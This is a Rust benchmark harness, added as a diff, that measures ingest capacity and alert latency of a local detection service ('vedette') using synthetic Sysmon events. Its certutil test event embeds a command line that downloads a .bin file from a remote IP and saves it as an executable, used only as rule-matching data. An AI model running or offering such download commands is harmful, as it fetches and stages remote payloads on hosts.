@@ -1,0 +1,385 @@
+//! `service-bench`: a running `vedette run` (the embedded default: embedded log,
+//! Parquet store, bundled rules) measured from the outside, over HTTP on loopback.
+//!
+//! ```text
+//! service-bench --vedette target/release/vedette [--seconds 15] [--connections 4]
+//! ```
+//!
+//! 1. **Capacity**: `--connections` agents post requests of 500 Sysmon process-creation
+//!    events (hosts and command lines varied, none matching a bundled rule) as fast as
+//!    the service answers, for `--seconds`; then the harness waits until every accepted
+//!    event is stored. The maximum sustained rate is the accepted events divided by the
+//!    time until the last of them was stored (ingest, bus, detection and storage all
+//!    keep up at that rate on average).
+//! 2. **Latency at half that rate**: one agent sends the same events paced at half the
+//!    capacity (a request every 50 ms) and, every 100 ms, one event that the bundled
+//!    certutil rule matches (a new host each time). The harness polls `/metrics` every
+//!    2 ms; the time from the answer to that event's request (durable: accepted) to the
+//!    moment the stored-alerts counter passes it is the latency, p50 / p99 / max.
+//!
+//! Also reported: the process's CPU time and peak RSS (`/proc/<pid>`).
+
+use std::io::Write;
+use std::net::{SocketAddr, TcpListener, TcpStream};
+use std::path::PathBuf;
+use std::process::{Child, Command, Stdio};
+use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
+use std::sync::{Arc, Mutex};
+use std::time::{Duration, Instant};
+
+use anyhow::{bail, Context};
+use clap::Parser;
+
+/// Admin token the harness starts the service with.
+const TOKEN: &str = "service-bench-admin-token-0123456789";
+/// Events per request in the background flow.
+const PER_REQUEST: usize = 500;
+
+/// Command line.
+#[derive(Parser)]
+struct Args {
+    /// The `vedette` binary to run (a release build).
+    #[arg(long, default_value = "target/release/vedette")]
+    vedette: PathBuf,
+    /// Seconds of each phase.
+    #[arg(long, default_value_t = 15)]
+    seconds: u64,
+    /// Concurrent agents in the capacity phase.
+    #[arg(long, default_value_t = 4)]
+    connections: usize,
+}
+
+fn free_addr() -> anyhow::Result<SocketAddr> {
+    Ok(TcpListener::bind("127.0.0.1:0")?.local_addr()?)
+}
+
+/// One HTTP/1.1 request on a new connection; the status and body.
+fn request(
+    addr: SocketAddr,
+    method: &str,
+    path: &str,
+    body: &[u8],
+) -> anyhow::Result<(u16, String)> {
+    let mut s = TcpStream::connect_timeout(&addr, Duration::from_secs(2))?;
+    s.set_read_timeout(Some(Duration::from_secs(30)))?;
+    s.set_nodelay(true)?;
+    let head = format!(
+        "{method} {path} HTTP/1.1\r\nHost: {addr}\r\nConnection: close\r\nAuthorization: Bearer {TOKEN}\r\nContent-Length: {}\r\n\r\n",
+        body.len()
+    );
+    s.write_all(head.as_bytes())?;
+    s.write_all(body)?;
+    let raw = vedette_core::io::read_capped(&mut s, 64 << 20)?;
+    let text = String::from_utf8_lossy(&raw).into_owned();
+    let status = text
+        .split_whitespace()
+        .nth(1)
+        .and_then(|v| v.parse().ok())
+        .with_context(|| format!("no status in {text:?}"))?;
+    let body = text
+        .split_once("\r\n\r\n")
+        .map(|(_, b)| b.to_string())
+        .unwrap_or_default();
+    Ok((status, body))
+}
+
+/// The value of the metric line starting with `name` (0 when absent).
+fn metric(text: &str, name: &str) -> u64 {
+    text.lines()
+        .find(|l| l.starts_with(name))
+        .and_then(|l| l.rsplit(' ').next())
+        .and_then(|v| v.parse::<f64>().ok())
+        .map_or(0, |v| v as u64)
+}
+
+fn metrics(addr: SocketAddr) -> anyhow::Result<String> {
+    let (status, body) = request(addr, "GET", "/metrics", b"")?;
+    if status != 200 {
+        bail!("/metrics answered {status}");
+    }
+    Ok(body)
+}
+
+/// `n` benign Sysmon process creations, varied by `seed`.
+fn benign(seed: u64, n: usize) -> Vec<u8> {
+    let mut out = Vec::with_capacity(n * 300);
+    for i in 0..n as u64 {
+        let k = seed.wrapping_mul(1_000_003).wrapping_add(i);
+        out.extend_from_slice(
+            format!(
+                "{{\"EventID\": 1, \"Channel\": \"Microsoft-Windows-Sysmon/Operational\", \"Computer\": \"ws-{:04}.corp.example\", \"TimeCreated_SystemTime\": \"2026-11-28T10:00:00.000Z\", \"ProcessId\": {}, \"Image\": \"C:\\\\Program Files\\\\App{}\\\\app.exe\", \"CommandLine\": \"app.exe --job {} --mode sync\", \"ParentImage\": \"C:\\\\Windows\\\\explorer.exe\", \"User\": \"CORP\\\\user{}\"}}\n",
+                k % 2000,
+                1000 + k % 60000,
+                k % 40,
+                k,
+                k % 500
+            )
+            .as_bytes(),
+        );
+    }
+    out
+}
+
+/// One event the bundled certutil rule matches, on host `n`.
+fn certutil(n: u64) -> Vec<u8> {
+    format!(
+        "{{\"EventID\": 1, \"Channel\": \"Microsoft-Windows-Sysmon/Operational\", \"Computer\": \"lat-{n}.corp.example\", \"TimeCreated_SystemTime\": \"2026-11-28T10:00:00.000Z\", \"ProcessId\": 4242, \"Image\": \"C:\\\\Windows\\\\System32\\\\certutil.exe\", \"CommandLine\": \"certutil.exe -urlcache -split -f http://203.0.113.9/{n}.bin c:\\\\users\\\\public\\\\{n}.exe\", \"ParentImage\": \"C:\\\\Windows\\\\System32\\\\cmd.exe\", \"User\": \"CORP\\\\bench\"}}\n"
+    )
+    .into_bytes()
+}
+
+fn ingest(addr: SocketAddr, body: &[u8]) -> anyhow::Result<()> {
+    let (status, answer) = request(addr, "POST", "/v1/ingest?format=windows-json", body)?;
+    if status != 200 {
+        bail!("ingest answered {status}: {answer}");
+    }
+    Ok(())
+}
+
+/// CPU seconds and peak RSS (MiB) of process `pid`.
+fn usage(pid: u32) -> (f64, f64) {
+    let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).unwrap_or_default();
+    let rest = stat.rsplit_once(')').map_or("", |(_, r)| r);
+    let f: Vec<&str> = rest.split_whitespace().collect();
+    let ticks = |i: usize| f.get(i).and_then(|v| v.parse::<u64>().ok()).unwrap_or(0);
+    let cpu = (ticks(11) + ticks(12)) as f64 / 100.0;
+    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap_or_default();
+    let hwm_kib = status
+        .lines()
+        .find_map(|l| l.strip_prefix("VmHWM:"))
+        .and_then(|v| v.split_whitespace().next()?.parse::<f64>().ok())
+        .unwrap_or(0.0);
+    (cpu, hwm_kib / 1024.0)
+}
+
+struct Service {
+    child: Child,
+    addr: SocketAddr,
+    _dir: tempfile::TempDir,
+}
+
+impl Drop for Service {
+    fn drop(&mut self) {
+        let _ = self.child.kill();
+        let _ = self.child.wait();
+    }
+}
+
+fn start(vedette: &PathBuf) -> anyhow::Result<Service> {
+    let dir = tempfile::tempdir()?;
+    let (addr, udp, tcp) = (free_addr()?, free_addr()?, free_addr()?);
+    std::fs::write(
+        dir.path().join("v.toml"),
+        format!(
+            "data_dir = \"{}/data\"\n[log]\nlevel = \"warn\"\n[http]\nrate_per_token = 0.0\n[ingest.syslog]\nudp_addr = \"{udp}\"\ntcp_addr = \"{tcp}\"\n",
+            dir.path().display()
+        ),
+    )?;
+    let child = Command::new(vedette)
+        .args(["run", "--config"])
+        .arg(dir.path().join("v.toml"))
+        .args(["--http-addr", &addr.to_string()])
+        .env("VEDETTE_ADMIN_TOKEN", TOKEN)
+        .stdout(Stdio::null())
+        .stderr(Stdio::inherit())
+        .spawn()
+        .with_context(|| format!("starting {}", vedette.display()))?;
+    let service = Service {
+        child,
+        addr,
+        _dir: dir,
+    };
+    let started = Instant::now();
+    while started.elapsed() < Duration::from_secs(30) {
+        if let Ok((200, _)) = request(addr, "GET", "/health", b"") {
+            return Ok(service);
+        }
+        std::thread::sleep(Duration::from_millis(20));
+    }
+    bail!("vedette did not become healthy")
+}
+
+fn percentile(sorted: &[Duration], p: f64) -> Duration {
+    if sorted.is_empty() {
+        return Duration::ZERO;
+    }
+    let i = ((sorted.len() as f64 - 1.0) * p).round() as usize;
+    sorted[i.min(sorted.len() - 1)]
+}
+
+fn main() -> anyhow::Result<()> {
+    let args = Args::parse();
+    let service = start(&args.vedette)?;
+    let addr = service.addr;
+    let pid = service.child.id();
+    println!(
+        "service-bench: {} (pid {pid}), {} s phases, {} connections",
+        args.vedette.display(),
+        args.seconds,
+        args.connections
+    );
+
+    // 1. Capacity.
+    let accepted = Arc::new(AtomicU64::new(0));
+    let stop = Arc::new(AtomicBool::new(false));
+    let t0 = Instant::now();
+    let senders: Vec<_> = (0..args.connections)
+        .map(|c| {
+            let (accepted, stop) = (accepted.clone(), stop.clone());
+            std::thread::spawn(move || -> anyhow::Result<()> {
+                let mut seed = c as u64 * 1_000_000;
+                while !stop.load(Ordering::Relaxed) {
+                    ingest(addr, &benign(seed, PER_REQUEST))?;
+                    accepted.fetch_add(PER_REQUEST as u64, Ordering::Relaxed);
+                    seed += 1;
+                }
+                Ok(())
+            })
+        })
+        .collect();
+    std::thread::sleep(Duration::from_secs(args.seconds));
+    stop.store(true, Ordering::Relaxed);
+    for s in senders {
+        s.join()
+            .map_err(|_| anyhow::anyhow!("a sender panicked"))??;
+    }
+    let sent_for = t0.elapsed();
+    let total = accepted.load(Ordering::Relaxed);
+    loop {
+        let text = metrics(addr)?;
+        if metric(&text, "vedette_ledger_stored_total{table=\"events\"}") >= total
+            && metric(&text, "vedette_detect_events_total") >= total
+        {
+            break;
+        }
+        if t0.elapsed() > sent_for + Duration::from_secs(600) {
+            bail!("the service did not store the accepted events within 10 minutes");
+        }
+        std::thread::sleep(Duration::from_millis(20));
+    }
+    let done = t0.elapsed();
+    let capacity = total as f64 / done.as_secs_f64();
+    println!(
+        "capacity: {total} events accepted in {:.1} s ({:.0} ev/s at the door), all stored after {:.1} s: max sustained {:.0} events/s",
+        sent_for.as_secs_f64(),
+        total as f64 / sent_for.as_secs_f64(),
+        done.as_secs_f64(),
+        capacity
+    );
+    let (cpu_after_capacity, _) = usage(pid);
+
+    // 2. Latency at half the capacity.
+    let half = capacity / 2.0;
+    let per_tick = ((half * 0.05).round() as usize).max(1);
+    let base = metric(
+        &metrics(addr)?,
+        "vedette_ledger_stored_total{table=\"alerts\"}",
+    );
+    let accepted_at: Arc<Mutex<Vec<Instant>>> = Arc::new(Mutex::new(Vec::new()));
+    let stored_at: Arc<Mutex<Vec<Instant>>> = Arc::new(Mutex::new(Vec::new()));
+    let stop = Arc::new(AtomicBool::new(false));
+    let watcher = {
+        let (stored_at, stop) = (stored_at.clone(), stop.clone());
+        std::thread::spawn(move || -> anyhow::Result<()> {
+            let mut seen = base;
+            while !stop.load(Ordering::Relaxed) {
+                let now = metric(
+                    &metrics(addr)?,
+                    "vedette_ledger_stored_total{table=\"alerts\"}",
+                );
+                let at = Instant::now();
+                if now > seen {
+                    let mut s = stored_at.lock().map_err(|_| anyhow::anyhow!("poisoned"))?;
+                    for _ in seen..now {
+                        s.push(at);
+                    }
+                    seen = now;
+                }
+                std::thread::sleep(Duration::from_millis(2));
+            }
+            Ok(())
+        })
+    };
+    let background = {
+        let stop = stop.clone();
+        std::thread::spawn(move || -> anyhow::Result<()> {
+            let mut next = Instant::now();
+            let mut seed = 9_000_000_000;
+            while !stop.load(Ordering::Relaxed) {
+                ingest(addr, &benign(seed, per_tick))?;
+                seed += 1;
+                next += Duration::from_millis(50);
+                if let Some(wait) = next.checked_duration_since(Instant::now()) {
+                    std::thread::sleep(wait);
+                }
+            }
+            Ok(())
+        })
+    };
+    let phase = Instant::now();
+    let mut n = 0u64;
+    let mut next = Instant::now();
+    while phase.elapsed() < Duration::from_secs(args.seconds) {
+        ingest(addr, &certutil(n))?;
+        accepted_at
+            .lock()
+            .map_err(|_| anyhow::anyhow!("poisoned"))?
+            .push(Instant::now());
+        n += 1;
+        next += Duration::from_millis(100);
+        if let Some(wait) = next.checked_duration_since(Instant::now()) {
+            std::thread::sleep(wait);
+        }
+    }
+    // Let the last alerts land.
+    let deadline = Instant::now() + Duration::from_secs(30);
+    while stored_at
+        .lock()
+        .map_err(|_| anyhow::anyhow!("poisoned"))?
+        .len()
+        < n as usize
+        && Instant::now() < deadline
+    {
+        std::thread::sleep(Duration::from_millis(10));
+    }
+    stop.store(true, Ordering::Relaxed);
+    background
+        .join()
+        .map_err(|_| anyhow::anyhow!("panicked"))??;
+    watcher.join().map_err(|_| anyhow::anyhow!("panicked"))??;
+    let accepted_at = accepted_at
+        .lock()
+        .map_err(|_| anyhow::anyhow!("poisoned"))?
+        .clone();
+    let stored_at = stored_at
+        .lock()
+        .map_err(|_| anyhow::anyhow!("poisoned"))?
+        .clone();
+    if stored_at.len() < accepted_at.len() {
+        bail!(
+            "{} alerts expected, {} stored",
+            accepted_at.len(),
+            stored_at.len()
+        );
+    }
+    let mut latencies: Vec<Duration> = accepted_at
+        .iter()
+        .zip(&stored_at)
+        .map(|(a, s)| s.saturating_duration_since(*a))
+        .collect();
+    latencies.sort();
+    let ms = |d: Duration| d.as_secs_f64() * 1000.0;
+    let (cpu, rss) = usage(pid);
+    println!(
+        "latency accepted -> alert stored at {:.0} events/s ({} alerts): p50 {:.1} ms, p99 {:.1} ms, max {:.1} ms",
+        per_tick as f64 * 20.0,
+        latencies.len(),
+        ms(percentile(&latencies, 0.5)),
+        ms(percentile(&latencies, 0.99)),
+        ms(*latencies.last().unwrap_or(&Duration::ZERO))
+    );
+    println!(
+        "process: {cpu_after_capacity:.1} CPU s after the capacity phase, {cpu:.1} CPU s in all, peak RSS {rss:.0} MiB"
+    );
+    Ok(())
+}
